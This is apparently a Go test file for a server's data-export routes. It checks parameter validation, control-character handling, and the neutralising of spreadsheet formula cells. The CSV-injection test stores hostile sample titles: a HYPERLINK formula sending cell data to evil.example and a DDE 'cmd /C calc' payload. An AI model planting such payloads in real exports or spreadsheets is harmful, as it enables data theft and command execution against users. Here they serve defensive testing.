package server_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"io"
	"slices"
	"testing"

	"kokeilu/ent/workspace"
	"kokeilu/internal/testdb"
)

// exportRoutes are every export file.
var exportRoutes = []string{"pilots.csv", "pilots.json", "graph.graphml", "graph.gexf", "nodes.csv", "edges.csv", "graph.zip"}

// refusal decodes a refused export: its code and extensions.parameter.
func refusal(t *testing.T, body []byte) (code, param string) {
	t.Helper()
	var out struct {
		Errors []struct {
			Extensions struct{ Code, Parameter string }
		}
	}
	if err := json.Unmarshal(body, &out); err != nil || len(out.Errors) == 0 {
		t.Fatalf("not a JSON error: %s", body)
	}
	return out.Errors[0].Extensions.Code, out.Errors[0].Extensions.Parameter
}

// TestExportParameters: on every export route, an unknown or misspelt
// parameter, a query that does not decode, U+0000 and invalid UTF-8 are
// 400 BAD_USER_INPUT naming the parameter (graph exports accepted asof=
// silently and exported the whole graph); graph-filter errors name theirs.
// A date outside the Date scalar's years is refused as in GraphQL.
func TestExportParameters(t *testing.T) {
	testdb.Each(t, func(t *testing.T, b testdb.Backend) {
		a := newAPI(t, b, false)
		for _, route := range exportRoutes {
			text, date := "text", "startsFrom"
			if !slices.Contains([]string{"pilots.csv", "pilots.json"}, route) {
				text, date = "regionCode", "from"
			}
			for _, c := range []struct{ query, param string }{
				{"asof=2020-01-01", "asof"},
				{date + "=2020-01-01&Projection=true", "Projection"},
				{text + "=a%00b", text},
				{text + "=a%FFb", text},
				{text + "=%zz", ""},
				// The Date scalar's years hold for export dates too (they
				// answered 200 where GraphQL's where refused the date).
				{date + "=1899-12-31", date},
				{date + "=0000-01-01", date},
				{date + "=2101-01-01", date},
			} {
				status, body := a.get("/export/" + route + "?" + c.query)
				if status != 400 {
					t.Errorf("%s?%s: %d %.200s", route, c.query, status, body)
					continue
				}
				if code, param := refusal(t, body); code != "BAD_USER_INPUT" || param != c.param {
					t.Errorf("%s?%s: %s on %q, want BAD_USER_INPUT on %q", route, c.query, code, param, c.param)
				}
			}
		}
		for _, c := range []struct{ query, param string }{
			{"asOf=yesterday", "asOf"},
			{"asOf=1899-12-31", "asOf"},
			{"to=2101-01-01", "to"},
			{"nodeTypes=PERSON", "nodeTypes"},
			{"asOf=2020-01-01&from=2019-01-01", "asOf"},
			{"maxNodes=0", "maxNodes"},
			{"projection=yes", "projection"},
		} {
			status, body := a.get("/export/graph.gexf?" + c.query)
			if code, param := refusal(t, body); status != 400 || code != "BAD_USER_INPUT" || param != c.param {
				t.Errorf("graph.gexf?%s: %d %s on %q, want 400 on %q", c.query, status, code, param, c.param)
			}
		}
	})
}

// TestExportCellsAreNeutralised: a pilot titled =HYPERLINK(…) (and the
// other formula starts of OWASP's list) comes out of the pilot CSV and the
// graph's nodes.csv, plain and zipped, with a leading apostrophe; the JSON
// export keeps the title as it is.
func TestExportCellsAreNeutralised(t *testing.T) {
	testdb.Each(t, func(t *testing.T, b testdb.Backend) {
		a := newAPI(t, b, false)
		p := a.people()
		titles := []string{`=HYPERLINK("https://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "Plain =title"}
		for _, title := range titles {
			a.query(&struct{}{}, `mutation($t: String!) { createPilot(input: {title: $t}) { id } }`, map[string]any{"t": title}, p.header("member")...)
		}
		// A leading tab or CR never reaches storage (text inputs are
		// trimmed of invisible characters); the cell rule for them is
		// tested in internal/export.
		var tabbed struct{ CreatePilot struct{ Title string } }
		a.query(&tabbed, `mutation { createPilot(input: {title: "\tTabbed"}) { title } }`, nil, p.header("member")...)
		if tabbed.CreatePilot.Title != "Tabbed" {
			t.Errorf("title \"\\tTabbed\" stored as %q, want it trimmed to \"Tabbed\"", tabbed.CreatePilot.Title)
		}
		titles = append(titles, "Tabbed")
		want := map[string]string{}
		for _, title := range titles {
			want[title] = "'" + title
		}
		want["Plain =title"] = "Plain =title"
		want["Tabbed"] = "Tabbed"
		check := func(name string, records [][]string, column int) {
			found := 0
			for _, r := range records {
				for raw, safe := range want {
					if r[column] == raw && raw != safe {
						t.Errorf("%s: %q exported verbatim", name, raw)
					}
					if r[column] == safe {
						found++
					}
				}
			}
			if found != len(want) {
				t.Errorf("%s: %d of %d titles found neutralised: %q", name, found, len(want), records)
			}
		}
		records := a.exportCSV("")
		check("pilots.csv", records, slices.Index(exportColumns, "title"))

		parse := func(name string, body []byte) [][]string {
			records, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
			if err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			return records
		}
		status, body := a.get("/export/nodes.csv?nodeTypes=PILOT")
		if status != 200 {
			t.Fatalf("nodes.csv: %d %s", status, body)
		}
		nodes := parse("nodes.csv", body)
		label := slices.Index(nodes[0], "label")
		check("nodes.csv", nodes[1:], label)

		_, body = a.get("/export/graph.zip?nodeTypes=PILOT")
		z, err := zip.NewReader(bytes.NewReader(body), int64(len(body)))
		if err != nil {
			t.Fatal(err)
		}
		f, err := z.Open("nodes.csv")
		if err != nil {
			t.Fatal(err)
		}
		zipped, _ := io.ReadAll(f)
		check("graph.zip nodes.csv", parse("zip", zipped)[1:], label)

		_, body = a.get("/export/pilots.json")
		var rows []map[string]any
		if err := json.Unmarshal(body, &rows); err != nil {
			t.Fatal(err)
		}
		for _, r := range rows {
			if !slices.Contains(titles, r["title"].(string)) {
				t.Errorf("pilots.json changed a title: %q", r["title"])
			}
		}
	})
}

// TestExportsKeepStoredText: every stored text leaves every export as it
// is. XML 1.0 cannot carry U+0001–U+001F but tab, line feed and carriage
// return, so GraphML and GEXF wrote "Ctl\u0001X" as "Ctl\uFFFDX" while
// pilots.json kept it; such characters are now refused at input, in all
// text, and the ones XML can carry come out of every export unchanged.
func TestExportsKeepStoredText(t *testing.T) {
	testdb.Each(t, func(t *testing.T, b testdb.Backend) {
		a := newAPI(t, b, false)
		p := a.people()
		a.newWorld(p, workspace.VisibilityPUBLIC)
		const create = `mutation($t: String!) { createPilot(input: {title: $t, status: ACTIVE}) { id title } }`
		for _, bad := range []string{"Ctl\u0001X", "Esc\u001b[31mX", "Form\u000cfeed", "Non\uffffchar"} {
			res := a.post(create, map[string]any{"t": bad}, p.header("member")...)
			if len(res.Errors) != 1 || res.Errors[0].code() != "BAD_USER_INPUT" {
				t.Errorf("title %+q: %s %+v, want BAD_USER_INPUT", bad, res.Data, res.Errors)
			}
		}
		const kept = "Tab\tand\nline"
		if res := a.post(create, map[string]any{"t": kept}, p.header("member")...); len(res.Errors) > 0 {
			t.Fatalf("title %+q: %+v", kept, res.Errors)
		}
		for _, route := range []string{"graph.graphml", "graph.gexf"} {
			status, body := a.get("/export/" + route + "?nodeTypes=PILOT")
			var titles []string
			d := xml.NewDecoder(bytes.NewReader(body))
			for {
				tok, err := d.Token()
				if err != nil {
					break
				}
				switch e := tok.(type) {
				case xml.StartElement:
					for _, at := range e.Attr {
						titles = append(titles, at.Value)
					}
				case xml.CharData:
					titles = append(titles, string(e))
				}
			}
			if status != 200 || !slices.Contains(titles, kept) {
				t.Errorf("%s: %d, %+q not among its texts", route, status, kept)
			}
		}
	})
}
